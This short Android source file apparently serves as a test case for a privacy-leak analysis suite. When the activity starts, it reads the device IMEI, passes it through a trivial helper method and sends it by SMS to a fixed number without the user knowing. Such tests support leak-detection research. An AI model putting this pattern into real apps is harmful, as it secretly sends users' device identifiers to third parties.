package cn.privlens.suite.long_pair;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    private static long pick(long a, long b, double c) { return b + (long) c; }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        long id = Long.parseLong(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        SmsManager.getDefault().sendTextMessage("10690000", null, "v" + pick(7L, id, 0.5), null, null);
    }
}
